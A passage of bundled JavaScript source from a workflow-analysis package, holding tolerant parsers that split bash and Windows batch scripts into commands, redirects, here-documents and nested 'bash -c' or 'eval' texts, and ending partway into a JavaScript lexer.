const VARIABLE = /\$(?:([A-Za-z_][A-Za-z0-9_]*|[0-9@*#?$!-])|\{([#!]?)([A-Za-z_][A-Za-z0-9_]*|[0-9]+|[@*#?$!-])([^}]{0,2})[^}]{0,500}\}?)/y;
function splitParts(from, range, substitutions) {
    const { text, scan, source, place } = from;
    const parts = [];
    let nextSubstitution = 0;
    let value = "";
    let valueStart = range.start;
    let quoted = "none";
    let region = regionIndex(scan.regions, range.start);
    const flush = (end) => {
        if (value !== "") {
            const span = place(valueStart, end);
            appendLiteral(parts, source, value, span.start, span.end, quoted);
        }
        value = "";
        valueStart = end;
    };
    let at = range.start;
    while (at < range.end) {
        const substitution = substitutions[nextSubstitution];
        if (substitution && at >= substitution.span.start) {
            flush(at);
            at = Math.max(at, substitution.span.end);
            const span = place(substitution.span.start, at);
            parts.push({ kind: "substitution", ...span, quoted, commands: substitution.commands });
            valueStart = at;
            nextSubstitution++;
            continue;
        }
        while (region < scan.regions.length && scan.regions[region]?.end <= at)
            region++;
        const current = scan.regions[region];
        const inside = current !== undefined && current.start <= at ? current : undefined;
        const nowQuoted = quotedAs(inside);
        if (nowQuoted !== quoted) {
            flush(at);
            quoted = nowQuoted;
        }
        const char = text[at];
        if (inside && (at === inside.start || at === inside.end - 1) && (char === "'" || char === '"')) {
            at++;
        }
        else if (quoted === "single") {
            value += char;
            at++;
        }
        else if (char === "\\" && at + 1 < range.end) {
            const next = text[at + 1];
            if (quoted === "none" || '$`"\\'.includes(next))
                value += next === "\n" ? "" : next;
            else
                value += next === "\n" ? "" : char + next;
            at += 2;
        }
        else if (char === '"' ||
            (char === "$" && (text[at + 1] === "'" || (text[at + 1] === '"' && quoted === "none")))) {
            at++;
        }
        else {
            VARIABLE.lastIndex = at;
            const match = char === "$" ? VARIABLE.exec(text) : null;
            if (match) {
                flush(at);
                const end = Math.min(at + match[0].length, range.end);
                const name = match[1] ?? match[3];
                parts.push({ kind: "variable", ...place(at, end), quoted, name, operator: split_word_operatorOf(match), operand: [] });
                at = end;
                valueStart = at;
                while (substitutions[nextSubstitution] && substitutions[nextSubstitution]?.span.start < at)
                    nextSubstitution++;
            }
            else {
                if (quoted === "none" && (char === "*" || char === "?")) {
                    flush(at);
                    parts.push({ kind: "glob", ...place(at, at + 1), quoted, pattern: char, parts: [] });
                    valueStart = at + 1;
                }
                else
                    value += char;
                at++;
            }
        }
    }
    flush(range.end);
    return parts;
}
function split_word_operatorOf(match) {
    if (match[2] === "#")
        return "length";
    if (match[2] === "!")
        return "indirect";
    return match[4] ? match[4] : undefined;
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/bash/split.js




/**
 * Commands of a script that no parser reads: words, redirects, pipelines and groups as far as they show in the text.
 * Takes anything and finds something.
 */
function splitScript(source, masked, placement, place, collected) {
    const from = { source, text: masked, scan: scanBash(masked), place: placement };
    new Splitter(from, collected).range({ start: 0, end: masked.length }, place, 0, 0);
}
const OPENERS = new Map([
    ["{", { kind: "brace", closer: "}" }],
    ["if", { kind: "if", closer: "fi" }],
    ["while", { kind: "while", closer: "done" }],
    ["until", { kind: "while", closer: "done" }],
    ["for", { kind: "for", closer: "done" }],
    ["select", { kind: "select", closer: "done" }],
    ["case", { kind: "case", closer: "esac" }],
]);
const CONDITIONS = new Map([
    ["if", "if-body"],
    ["while", "loop-body"],
    ["for", "loop-body"],
    ["select", "loop-body"],
    ["case", "case-body"],
]);
const CLOSERS = new Set(["}", "fi", "done", "esac"]);
const SEPARATORS = new Set(["then", "do", "else", "elif", "!", "time"]);
const split_ASSIGNMENT = /^([A-Za-z_][A-Za-z0-9_]*)(?:\[[^\]]*\])?(\+?)=/;
const split_MAX_DEPTH = 50;
const NEAR = 500;
class Splitter {
    from;
    collected;
    bodies = new Map();
    operators = new Map();
    constructor(from, collected) {
        this.from = from;
        this.collected = collected;
        for (const heredoc of from.scan.heredocs) {
            if (heredoc.after > heredoc.body.start)
                this.bodies.set(heredoc.body.start, heredoc);
            this.operators.set(heredoc.operator, heredoc);
        }
    }
    /** The here-document whose body begins at `offset`. */
    bodyAt(offset) {
        return this.bodies.get(offset);
    }
    /** The here-document whose operator is at `offset`. */
    heredocOf(offset) {
        return this.operators.get(offset);
    }
    /**
     * Splits a range, which is the whole text or the inside of a substitution.
     *
     * @param firstSubstitution index of the first substitution that may begin in the range
     * @returns the commands of the range and the index of the first substitution after it
     */
    range(range, place, firstSubstitution, depth) {
        const walk = new RangeWalk(this.from, this.collected, range, place, firstSubstitution, depth, this);
        return walk.run();
    }
}
class RangeWalk {
    from;
    collected;
    limits;
    place;
    substitution;
    depth;
    splitter;
    at;
    commands = [];
    open = [];
    draft;
    stages = [];
    region;
    /** Set between `name()` and the body. */
    functionName;
    constructor(from, collected, limits, place, substitution, depth, splitter) {
        this.from = from;
        this.collected = collected;
        this.limits = limits;
        this.place = place;
        this.substitution = substitution;
        this.depth = depth;
        this.splitter = splitter;
        this.at = limits.start;
        this.region = regionIndex(from.scan.regions, limits.start);
    }
    run() {
        const { text } = this.from;
        const { end } = this.limits;
        while (this.at < end) {
            if (this.skipHidden())
                continue;
            const char = text[this.at];
            if (!this.isPlain())
                this.word();
            else if (char === " " || char === "\t" || char === "\r")
                this.at++;
            else if (char === "\\" && (text[this.at + 1] === "\n" || text[this.at + 1] === "\r"))
                this.at += 2;
            else if (char === "\n" || char === ";")
                this.endPipeline();
            else if ("&|()<>".includes(char) && this.isInTest())
                this.at++;
            else if (char === "&" && text[this.at + 1] !== ">")
                this.endPipeline();
            else if (char === "|")
                this.pipe();
            else if (char === "(")
                this.openParenthesis();
            else if (char === ")")
                this.closeParenthesis();
            else if (this.isRedirect())
                this.redirect();
            else
                this.word();
        }
        this.endPipeline();
        while (this.open.length > 0)
            this.closeGroup(end);
        return { commands: this.commands, next: this.substitution };
    }
    /** Between `[[` and `]]` operators separate nothing. */
    isInTest() {
        const words = this.draft?.words;
        return words?.[0]?.text === "[[" && words[words.length - 1]?.text !== "]]";
    }
    get inner() {
        const group = this.open[this.open.length - 1];
        return group ? group.place : this.place;
    }
    /** Steps over comments and bodies of here-documents. */
    skipHidden() {
        const { regions } = this.from.scan;
        while (this.region < regions.length && regions[this.region]?.end <= this.at)
            this.region++;
        const region = regions[this.region];
        if (region?.quoting === "comment" && region.start <= this.at) {
            this.at = Math.min(region.end, this.limits.end);
            return true;
        }
        const heredoc = this.splitter.bodyAt(this.at);
        if (heredoc) {
            this.at = Math.min(heredoc.after, this.limits.end);
            this.skipSubstitutions();
            return true;
        }
        return false;
    }
    skipSubstitutions() {
        const { substitutions } = this.from.scan;
        while ((substitutions[this.substitution]?.start ?? Number.POSITIVE_INFINITY) < this.at)
            this.substitution++;
    }
    isPlain() {
        const { regions } = this.from.scan;
        while (this.region < regions.length && regions[this.region]?.end <= this.at)
            this.region++;
        const region = regions[this.region];
        return region === undefined || region.start > this.at;
    }
    word() {
        const word = this.readWord();
        if (!this.draft || this.draft.words.length === 0) {
            const text = this.from.text.slice(word.range.start, Math.min(word.range.end, word.range.start + 8));
            if (!this.draft?.closed && this.reserved(text, word.range))
                return;
        }
        const draft = this.begin(word.range.start);
        draft.words.push(new SplitWord(this.from, word.range, word.substitutions));
        draft.end = word.range.end;
    }
    /** Reads up to the next blank or operator that isn't quoted. */
    readWord() {
        const { text, scan } = this.from;
        const start = this.at;
        const substitutions = [];
        let arrays = 0;
        while (this.at < this.limits.end) {
            const substitution = scan.substitutions[this.substitution];
            if (substitution && substitution.start <= this.at) {
                substitutions.push(this.readSubstitution(substitution));
                continue;
            }
            const char = text[this.at];
            if (this.isPlain()) {
                if (char === "\\") {
                    if (text[this.at + 1] === "\n" && this.at > start && arrays === 0)
                        break;
                    this.at += 2;
                    continue;
                }
                if (char === "$" && text[this.at + 1] === "{") {
                    this.skipParameter();
                    continue;
                }
                // An array is one text, whatever blanks it holds.
                if (char === "(" && (arrays > 0 || text[this.at - 1] === "="))
                    arrays++;
                else if (char === ")" && arrays > 0)
                    arrays--;
                else if (arrays === 0 && " \t\r\n;&|()<>".includes(char))
                    break;
            }
            this.at++;
        }
        this.at = Math.max(Math.min(this.at, this.limits.end), start + 1);
        return { range: { start, end: this.at }, substitutions };
    }
    isSubstitution() {
        return this.from.scan.substitutions[this.substitution]?.start === this.at;
    }
    skipParameter() {
        const close = this.indexNear("}");
        const end = close < 0 ? this.at + 1 : close;
        const substitution = this.from.scan.substitutions[this.substitution];
        this.at = substitution ? Math.min(end + 1, Math.max(substitution.start, this.at + 1)) : end + 1;
    }
    /** The next `char` of the range, if it isn't far: looking further for each opening bracket would take forever. */
    indexNear(char) {
        const found = this.from.text.slice(this.at, Math.min(this.at + NEAR, this.limits.end)).indexOf(char);
        return found < 0 ? -1 : this.at + found;
    }
    readSubstitution(span) {
        this.substitution++;
        let commands = [];
        const end = Math.min(span.end, this.limits.end);
        if (this.depth < split_MAX_DEPTH) {
            const body = { start: span.body.start, end: Math.min(span.body.end, end) };
            const inside = { ...this.inner, inSubstitution: true, group: undefined };
            const read = this.splitter.range(body, inside, this.substitution, this.depth + 1);
            commands = read.commands;
            this.substitution = read.next;
        }
        this.at = Math.max(end, this.at + 1);
        this.skipSubstitutions();
        return { span, commands };
    }
    begin(start) {
        this.draft ??= { start, end: start, words: [], redirects: [], closed: undefined };
        return this.draft;
    }
    /** Handles a reserved word at the beginning of a command; false when it isn't one. */
    reserved(word, range) {
        if (SEPARATORS.has(word))
            return true;
        const opener = OPENERS.get(word);
        if (opener) {
            this.openGroup(opener.kind, opener.closer, range.start);
            return opener.kind !== "for" && opener.kind !== "select" && opener.kind !== "case" ? true : this.skipHeader();
        }
        const top = this.open[this.open.length - 1];
        if (CLOSERS.has(word) && top?.closer === word) {
            this.closeGroup(range.end);
            return true;
        }
        return false;
    }
    /** `for x in …`, `case … in`: the words up to the end of the line belong to no command. */
    skipHeader() {
        const { text } = this.from;
        while (this.at < this.limits.end) {
            const substitution = this.from.scan.substitutions[this.substitution];
            if (substitution && substitution.start <= this.at)
                this.readSubstitution(substitution);
            else if (this.isPlain() && (text[this.at] === "\n" || text[this.at] === ";"))
                break;
            else
                this.at++;
        }
        return true;
    }
    openGroup(kind, closer, start) {
        if (this.open.length >= split_MAX_DEPTH)
            return;
        const outer = this.inner;
        const span = this.from.place(start, start);
        const group = {
            kind,
            ...span,
            name: undefined,
            words: [],
            redirects: [],
            commands: [],
            place: outer,
            pipeline: undefined,
        };
        this.collected.groups.push(group);
        const condition = CONDITIONS.get(kind);
        const place = {
            ...outer,
            group,
            conditions: condition ? [...outer.conditions, condition] : outer.conditions,
            inFunction: this.functionName ?? outer.inFunction,
        };
        this.functionName = undefined;
        this.open.push({ kind, closer, start, place, group, stages: this.stages });
        this.stages = [];
    }
    closeGroup(end) {
        this.linkStages();
        const { group, start, stages } = this.open.pop();
        group.end = this.from.place(start, end).end;
        const outer = this.open[this.open.length - 1];
        const into = outer ? outer.group.commands : this.commands;
        for (const command of group.commands)
            into.push(command);
        this.stages = stages;
        this.draft = { start, end, words: [], redirects: group.redirects, closed: group };
    }
    openParenthesis() {
        const { draft } = this;
        this.at++;
        if (!draft) {
            this.openGroup("subshell", ")", this.at - 1);
        }
        else if (draft.words.length === 1 && this.from.text[this.at] === ")") {
            this.functionName = draft.words[0]?.text;
            this.draft = undefined;
            this.at++;
        }
        else
            this.endCommand();
    }
    closeParenthesis() {
        this.at++;
        if (this.open[this.open.length - 1]?.kind === "case") {
            this.dropPattern();
            return;
        }
        this.endCommand();
        if (this.open[this.open.length - 1]?.closer === ")")
            this.closeGroup(this.at);
        else
            this.linkStages();
    }
    /** What was read as a command, or as a pipeline of them, is a pattern of `case`. */
    dropPattern() {
        this.draft = undefined;
        const into = this.open[this.open.length - 1]?.group.commands ?? this.commands;
        while (this.stages.length > 0) {
            const stage = this.stages.pop();
            if (into[into.length - 1] === stage)
                into.pop();
            const { commands } = this.collected;
            if (commands[commands.length - 1] === stage)
                commands.pop();
        }
    }
    pipe() {
        const { text } = this.from;
        if (text[this.at + 1] === "|") {
            this.endPipeline();
            this.at++;
            return;
        }
        this.endCommand();
        this.at += text[this.at + 1] === "&" ? 2 : 1;
    }
    endPipeline() {
        this.endCommand();
        this.linkStages();
        this.at++;
    }
    linkStages() {
        linkStages(this.stages);
        this.stages = [];
    }
    endCommand() {
        const { draft } = this;
        this.draft = undefined;
        if (!draft)
            return;
        if (draft.closed) {
            this.stages.push(draft.closed);
            return;
        }
        const assignments = [];
        let first = 0;
        while (first < draft.words.length) {
            const assignment = this.assignment(draft.words[first]);
            if (!assignment)
                break;
            assignments.push(assignment);
            first++;
        }
        const command = {
            kind: "command",
            ...this.from.place(draft.start, draft.end),
            name: draft.words[first],
            args: draft.words.slice(first + 1),
            assignments,
            redirects: draft.redirects,
            place: this.inner,
            pipeline: undefined,
        };
        this.collected.commands.push(command);
        const group = this.open[this.open.length - 1];
        (group ? group.group.commands : this.commands).push(command);
        this.stages.push(command);
    }
    assignment(word) {
        const match = split_ASSIGNMENT.exec(word.text);
        if (!match)
            return undefined;
        const value = word.after(match[0].length);
        return {
            start: word.start,
            end: word.end,
            name: match[1],
            append: match[2] === "+",
            values: value ? [value] : [],
        };
    }
    isRedirect() {
        const { text } = this.from;
        if (!this.isPlain())
            return false;
        let at = this.at;
        while (at < this.at + 3 && text.charCodeAt(at) >= 48 && text.charCodeAt(at) <= 57)
            at++;
        const char = text[at];
        if (char === "<" || char === ">")
            return text[at + 1] !== "(" || at > this.at;
        return char === "&" && at === this.at && text[at + 1] === ">";
    }
    redirect() {
        const { text } = this.from;
        const start = this.at;
        const draft = this.begin(start);
        const match = REDIRECT.exec(text.slice(start, start + 8));
        this.at += match[0].length;
        const operatorAt = start + match[1].length;
        const operator = match[2];
        while (text[this.at] === " " || text[this.at] === "\t")
            this.at++;
        const char = text[this.at] ?? "\n";
        let target;
        const isWord = !this.isPlain() || !"\r\n;&|()<>".includes(char) || this.isSubstitution();
        if (this.at < this.limits.end && isWord) {
            const word = this.readWord();
            target = new SplitWord(this.from, word.range, word.substitutions);
        }
        const end = Math.min(this.at, this.limits.end);
        const heredoc = operator.startsWith("<<") && operator !== "<<<" ? this.splitter.heredocOf(operatorAt) : undefined;
        draft.redirects.push({
            ...this.from.place(start, end),
            operator,
            descriptor: match[1] === "" ? undefined : match[1],
            target,
            heredoc: heredoc && {
                body: this.from.place(heredoc.body.start, heredoc.body.end),
                delimiter: target?.literal ?? "",
                quoted: target !== undefined && /['"\\]/.test(target.text),
                content: this.heredocContent(heredoc.body),
            },
        });
        draft.end = end;
    }
    heredocContent(body) {
        const { substitutions } = this.from.scan;
        const inside = [];
        const first = this.depth < split_MAX_DEPTH ? firstFrom(substitutions, body.start) : substitutions.length;
        for (let index = first; index < substitutions.length; index++) {
            const span = substitutions[index];
            if (span.start >= body.end)
                break;
            const last = inside[inside.length - 1];
            if (last && span.start < last.span.end)
                continue;
            const place = { ...this.inner, inSubstitution: true, group: undefined };
            const { commands } = this.splitter.range(span.body, place, index + 1, this.depth + 1);
            inside.push({ span, commands });
        }
        return new SplitWord(this.from, body, inside);
    }
}
const REDIRECT = /^(\d*)(&>>|&>|<<<|<<-?|<>|<&|>>|>\||>&|<|>)/;
/** Index of the first range that begins at `offset` or after it. */
function firstFrom(ranges, offset) {
    let low = 0;
    let high = ranges.length;
    while (low < high) {
        const middle = (low + high) >> 1;
        if (ranges[middle].start < offset)
            low = middle + 1;
        else
            high = middle;
    }
    return low;
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/bash/read.js






/** How deep texts of `bash -c` and `eval` are read. */
const MAX_NESTING = 4;
/** The commands of a bash or sh script. Never throws. */
function readBash(source) {
    const collected = { commands: [], groups: [], knowsPlaces: true };
    readText(source, source.masked, unmoved, TOP_PLACE, collected);
    // The list grows while nested texts are found.
    for (let index = 0; index < collected.commands.length; index++) {
        readNested(source, collected.commands[index], collected);
    }
    collected.commands.sort((a, b) => a.start - b.start);
    return collected;
}
/** The commands of a script in a language that resembles a shell; nothing nested is looked into. */
function readWords(source) {
    const collected = { commands: [], groups: [], knowsPlaces: false };
    splitScript(source, source.masked, unmoved, TOP_PLACE, collected);
    collected.commands.sort((a, b) => a.start - b.start);
    return collected;
}
function readText(source, masked, placement, place, collected) {
    const tree = parseBash(masked);
    if (!tree) {
        collected.knowsPlaces = false;
        splitScript(source, masked, placement, place, collected);
        return;
    }
    const before = { commands: collected.commands.length, groups: collected.groups.length };
    try {
        convertScript(tree, source, masked, placement, place, collected);
    }
    catch (error) {
        // Trees may be deeper than our stack; whatever else goes wrong, the words of the script are still there.
        if (!(error instanceof RangeError))
            throw error;
        collected.commands.length = before.commands;
        collected.groups.length = before.groups;
        collected.knowsPlaces = false;
        splitScript(source, masked, placement, place, collected);
    }
}
function readNested(source, command, collected) {
    if (nestingOf(command) >= MAX_NESTING)
        return;
    const nested = nestedScript(command, source);
    if (!nested)
        return;
    const place = {
        ...TOP_PLACE,
        conditions: command.place.conditions,
        inFunction: command.place.inFunction,
        nestedIn: command,
    };
    readText(source, nested.text, nested.placement, place, collected);
}
/** The script that a command runs, where it is there word for word; variables in it are left to the inner shell. */
function nestedScript(command, source) {
    const word = nestedText(command);
    if (word) {
        const made = word.literal === undefined ? undefined : { text: word.literal, placement: madeFrom(word) };
        return quotedBody(word, source) ?? made;
    }
    const heredoc = inputOfShell(command);
    return heredoc && bodyOf(source, heredoc.body, !heredoc.quoted);
}
function nestingOf(command) {
    let depth = 0;
    for (let at = command.place.nestedIn; at; at = at.place.nestedIn)
        depth++;
    return depth;
}
const SHELLS = new Set(["bash", "sh", "dash", "zsh", "ksh", "ash"]);
/** The word that a command runs as a script: after `bash -c` (also `-ec`, `-lc`), or the one argument of `eval`. */
function nestedText(command) {
    const { name, args } = effectiveCommand(command);
    const program = name?.literal;
    if (program === undefined)
        return undefined;
    if (program === "eval")
        return args.length === 1 ? args[0] : undefined;
    if (!SHELLS.has(program.slice(program.lastIndexOf("/") + 1)))
        return undefined;
    for (let index = 0; index < args.length; index++) {
        const option = args[index]?.literal;
        if (option === undefined || !/^[-+]/.test(option))
            return undefined;
        if (/^-[a-zA-Z]*c[a-zA-Z]*$/.test(option))
            return args[index + 1];
        if (/^[-+]o$/.test(option))
            index++;
    }
    return undefined;
}
/** The here-document that a shell reads as its script: `bash <<EOF`, `sudo sh -es <<EOF`. */
function inputOfShell(command) {
    const found = command.redirects.findLast(({ heredoc }) => heredoc)?.heredoc;
    if (!found)
        return undefined;
    const { name, args } = effectiveCommand(command);
    const program = name?.literal ?? "";
    const isOption = ({ literal }) => literal !== undefined && /^[-+]/.test(literal);
    const readsInput = args.every(isOption) || args.some(({ literal }) => /^-[a-zA-Z]*s$/.test(literal ?? ""));
    return SHELLS.has(program.slice(program.lastIndexOf("/") + 1)) && readsInput ? found : undefined;
}
/** What stands between the quotes, when the word is one quoted text. */
function quotedBody(word, source) {
    const start = word.start + 1;
    const end = word.end - 1;
    const quote = source.masked[word.start];
    if (end < start || source.masked[end] !== quote)
        return undefined;
    if (quote === "'") {
        return source.masked.slice(start, end).includes("'") ? undefined : bodyOf(source, { start, end }, false);
    }
    const isQuoted = quote === '"' && word.parts.every(({ quoted }) => quoted === "double");
    return isQuoted ? bodyOf(source, { start, end }, true) : undefined;
}
/** @param expands the outer shell takes one level of backslashes off it */
function bodyOf(source, { start, end }, expands) {
    const raw = source.masked.slice(start, end);
    const text = expands ? raw.replace(/\\([$`"\\])/g, "$1") : raw;
    return { text, placement: text === raw ? cutAt(unmoved, start) : unescaped(unmoved, raw, text, start) };
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/cmd/read.js



/** Commands and quotes of a batch script, found by one tolerant pass. Never throws. */
function readCmd(source) {
    return new CmdReader(source).run();
}
const read_VARIABLE = /%([A-Za-z_#$@][^%\s:=]{0,100})(:[^%\n]{0,200})?%|!([A-Za-z_#$@][^!\s:=]{0,100})(:[^!\n]{0,200})?!|%%?(~[a-z]*)?([A-Za-z0-9*])/iy;
const read_REDIRECT = /([0-9]?)(>>|>|<)(&[0-9])?/y;
const read_ASSIGNMENT = /^\s*(?:\/[aApP]\s+)?"?([^=\s"]+)=/;
const read_MAX_DEPTH = 100;
const MAX_HEADER = 1000;
class CmdReader {
    source;
    text;
    recorder = new RegionRecorder();
    commands = [];
    groups = [];
    open = [];
    stages = [];
    draft;
    isConditional = false;
    at = 0;
    constructor(source) {
        this.source = source;
        this.text = source.masked;
    }
    run() {
        const { text } = this;
        while (this.at < text.length) {
            const char = text[this.at];
            if (" \t\r,;=".includes(char))
                this.at++;
            else if (char === "\n") {
                this.endPipeline();
                this.isConditional = false;
                this.at++;
            }
            else if (char === "^" && /[\r\n]/.test(text[this.at + 1] ?? ""))
                this.at += text[this.at + 1] === "\r" ? 3 : 2;
            else if (!this.draft && this.comment())
                continue;
            else if (char === "&" || char === "|")
                this.operator(char);
            else if (char === "(" && !this.draft?.words.length)
                this.openGroup();
            else if (char === ")" && this.open.length > 0)
                this.closeGroup();
            else if (this.redirectAt())
                this.redirect();
            else
                this.word();
        }
        this.endPipeline();
        while (this.open.length > 0)
            this.closeGroup();
        this.commands.sort((a, b) => a.start - b.start);
        return {
            knowsPlaces: false,
            commands: this.commands,
            groups: this.groups,
            regions: this.recorder.finish(text.length),
        };
    }
    get place() {
        const group = this.open[this.open.length - 1]?.group;
        if (!group && !this.isConditional)
            return TOP_PLACE;
        const conditions = group?.place.conditions ?? [];
        return { ...TOP_PLACE, group, conditions: this.isConditional ? [...conditions, "if-body"] : conditions };
    }
    /** `rem …` and `:: …` up to the end of the line; a label too. */
    comment() {
        const { text, at } = this;
        const isComment = text[at] === ":" || /^@?rem(?:\s|$)/i.test(text.slice(at, at + 5));
        if (!isComment)
            return false;
        this.recorder.enter(at, "comment");
        const end = text.indexOf("\n", at);
        this.at = end < 0 ? text.length : end;
        this.recorder.enter(this.at, "none");
        return true;
    }
    operator(char) {
        const isDouble = this.text[this.at + 1] === char;
        if (char === "|" && !isDouble)
            this.endCommand();
        else {
            this.endPipeline();
            if (isDouble)
                this.isConditional = true;
        }
        this.at += isDouble ? 2 : 1;
    }
    openGroup() {
        const start = this.at++;
        if (this.open.length >= read_MAX_DEPTH)
            return;
        const group = {
            kind: "block",
            start,
            end: start,
            name: undefined,
            words: [],
            redirects: this.draft?.redirects ?? [],
            commands: [],
            place: this.place,
            pipeline: undefined,
        };
        this.draft = undefined;
        this.groups.push(group);
        this.open.push({ group, stages: this.stages });
        this.stages = [];
    }
    closeGroup() {
        this.endCommand();
        this.linkStages();
        this.at = Math.min(this.at + 1, this.text.length);
        const { group, stages } = this.open.pop();
        group.end = this.at;
        const outer = this.open[this.open.length - 1]?.group.commands;
        if (outer)
            for (const command of group.commands)
                outer.push(command);
        this.stages = stages;
        this.draft = { start: group.start, end: this.at, words: [], redirects: group.redirects, closed: group };
    }
    begin() {
        this.draft ??= { start: this.at, end: this.at, words: [], redirects: [], closed: undefined };
        return this.draft;
    }
    redirectAt() {
        read_REDIRECT.lastIndex = this.at;
        return read_REDIRECT.test(this.text);
    }
    redirect() {
        const draft = this.begin();
        const start = this.at;
        read_REDIRECT.lastIndex = start;
        const match = read_REDIRECT.exec(this.text);
        this.at += match[0].length;
        while (this.text[this.at] === " " || this.text[this.at] === "\t")
            this.at++;
        const hasTarget = !match[3] && this.at < this.text.length && !"\r\n&|()<>".includes(this.text[this.at]);
        const target = hasTarget ? this.readWord() : undefined;
        draft.redirects.push({
            start,
            end: this.at,
            operator: match[3] ? ">&" : match[2],
            descriptor: match[1] === "" ? undefined : match[1],
            target,
            heredoc: undefined,
        });
        draft.end = this.at;
    }
    word() {
        const draft = this.draft;
        if (draft?.closed) {
            // `) else (`: the group is over.
            this.endCommand();
        }
        const start = this.at;
        const word = this.readWord();
        const isFirst = this.draft === undefined || this.draft.words.length === 0;
        const keyword = isFirst ? word.text.toLowerCase().replace(/^@/, "") : "";
        if (keyword === "if" || keyword === "for" || keyword === "else") {
            this.header(keyword);
            return;
        }
        this.draft ??= { start, end: start, words: [], redirects: [], closed: undefined };
        this.draft.words.push(word);
        this.draft.end = word.end;
    }
    /** Goes over the condition of `if` and the set of `for`: what follows is a command of its own. */
    header(keyword) {
        this.draft = undefined;
        this.isConditional = true;
        if (keyword === "else")
            return;
        const line = this.lineEnd();
        if (keyword === "for") {
            const found = /\bdo\b/i.exec(this.text.slice(this.at, line));
            this.skipTo(found ? this.at + found.index + 2 : line);
            return;
        }
        const condition = /^\s*(?:\/i\s+)?(?:not\s+)?(?:(?:exist|defined|errorlevel)\s+(?:"[^"\n]*"|\S+)|(?:"[^"\n]*"|[^\s"=]+)\s*(?:==|\s(?:equ|neq|lss|leq|gtr|geq)\s)\s*(?:"[^"\n]*"|\S+))/i.exec(this.text.slice(this.at, line));
        if (condition)
            this.skipTo(this.at + condition[0].length);
    }
    /** The end of the line, or a place in it that no person's condition reaches. */
    lineEnd() {
        const found = this.text.slice(this.at, this.at + MAX_HEADER).indexOf("\n");
        return found < 0 ? Math.min(this.at + MAX_HEADER, this.text.length) : this.at + found;
    }
    /** Moves on, and notes quotes on the way. */
    skipTo(end) {
        while (this.at < end) {
            if (this.text[this.at] === '"')
                this.quote(end);
            else
                this.at++;
        }
    }
    quote(limit) {
        const close = this.text.slice(this.at + 1, limit).search(/["\n]/);
        const end = close < 0 ? limit : this.at + 1 + close + (this.text[this.at + 1 + close] === '"' ? 1 : 0);
        this.recorder.enter(this.at, "double");
        this.at = end;
        this.recorder.enter(end, "none");
    }
    readWord() {
        const { text } = this;
        const start = this.at;
        let isQuoted = false;
        while (this.at < text.length) {
            const char = text[this.at];
            if (char === "\n")
                break;
            if (char === '"') {
                if (!isQuoted)
                    this.recorder.enter(this.at, "double");
                isQuoted = !isQuoted;
                this.at++;
                if (!isQuoted)
                    this.recorder.enter(this.at, "none");
                continue;
            }
            if (!isQuoted) {
                if (char === "^" && !/[\r\n]/.test(text[this.at + 1] ?? "\n")) {
                    this.at += 2;
                    continue;
                }
                if (" \t\r^&|<>".includes(char) || (char === ")" && this.open.length > 0))
                    break;
            }
            this.at++;
        }
        if (isQuoted)
            this.recorder.enter(this.at, "none");
        this.at = Math.min(Math.max(this.at, start + 1), text.length);
        return new CmdWord(this.source, { start, end: this.at });
    }
    endPipeline() {
        this.endCommand();
        this.linkStages();
    }
    linkStages() {
        linkStages(this.stages);
        this.stages = [];
    }
    endCommand() {
        const { draft } = this;
        this.draft = undefined;
        if (!draft)
            return;
        if (draft.closed) {
            this.stages.push(draft.closed);
            return;
        }
        const [name, ...args] = draft.words;
        const command = {
            kind: "command",
            start: draft.start,
            end: draft.end,
            name,
            args,
            assignments: name && /^@?set$/i.test(name.text) ? this.assignments(args) : [],
            redirects: draft.redirects,
            place: this.place,
            pipeline: undefined,
        };
        this.commands.push(command);
        this.open[this.open.length - 1]?.group.commands.push(command);
        this.stages.push(command);
    }
    /** `set NAME=value with blanks`, `set "NAME=value"`. */
    assignments(args) {
        const first = args[0];
        const last = args[args.length - 1];
        if (!first || !last)
            return [];
        const text = this.text.slice(first.start, last.end);
        const match = read_ASSIGNMENT.exec(text.slice(0, 1000));
        if (!match)
            return [];
        const { start } = first;
        const value = new CmdWord(this.source, { start: start + match[0].length, end: last.end });
        return [
            { start, end: last.end, name: match[1], append: false, values: value.end > value.start ? [value] : [] },
        ];
    }
}
class CmdWord {
    source;
    start;
    end;
    #parts;
    constructor(source, span) {
        this.source = source;
        this.start = span.start;
        this.end = span.end;
    }
    get text() {
        return this.source.text.slice(this.start, this.end);
    }
    get parts() {
        this.#parts ??= partsOf(this.source, this.start, this.end);
        return this.#parts;
    }
    get literal() {
        return literalOf(this.parts);
    }
}
function partsOf(source, start, end) {
    const text = source.masked;
    const parts = [];
    let quoted = "none";
    let value = "";
    let valueStart = start;
    let at = start;
    const flush = () => {
        if (value !== "")
            appendLiteral(parts, source, value, valueStart, at, quoted);
        value = "";
    };
    while (at < end) {
        const char = text[at];
        if (char === '"') {
            flush();
            quoted = quoted === "none" ? "double" : "none";
            valueStart = ++at;
            continue;
        }
        read_VARIABLE.lastIndex = at;
        const match = char === "%" || char === "!" ? read_VARIABLE.exec(text) : null;
        if (match && at + match[0].length <= end) {
            flush();
            const name = match[1] ?? match[3] ?? match[6];
            const operator = match[2] ?? match[4] ?? match[5];
            parts.push({ kind: "variable", start: at, end: at + match[0].length, quoted, name, operator, operand: [] });
            at += match[0].length;
            valueStart = at;
            continue;
        }
        if (char === "^" && quoted === "none" && at + 1 < end)
            at++;
        value += text[at];
        at++;
    }
    flush();
    return parts;
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/javascript/lex.js


/**
 * String literals, templates, regular expressions and comments of a JavaScript program. Never throws.
 *
 * @see ECMAScript, section 12 "Lexical Grammar"
 */
function lexJavaScript(source) {
    return new JavaScriptLexer(source).run();
}
/** A `/` after one of these words begins a regular expression. */
const BEFORE_REGEX = new Set([
    "return",
    "typeof",
    "case",
    "in",
    "of",
    "delete",
    "void",
    "throw",
    "new",
    "do",
    "else",
    "await",
    "yield",
    "instanceof",
]);
const IDENTIFIER = /[A-Za-z0-9_$\u0080-\uffff]+/y;
const lex_MAX_DEPTH = 200;
/** Longer ones are divisions on one long line. */
const MAX_REGEX = 2000;
class JavaScriptLexer {
    source;
    text;
    recorder = new RegionRecorder();
    strings = [];
    templates = [];
    at = 0;
    /** Would a `/` here begin a regular expression? */
    isOperandNext = true;
    constructor(source) {
        this.source = source;
        this.text = source.masked;
    }
    run() {
        const { text } = this;
        while (this.at < text.length) {
            const template = this.templates[this.templates.length - 1];
            if (template?.braces === -1)
                this.templateText(template);
            else
                this.code(template);
        }
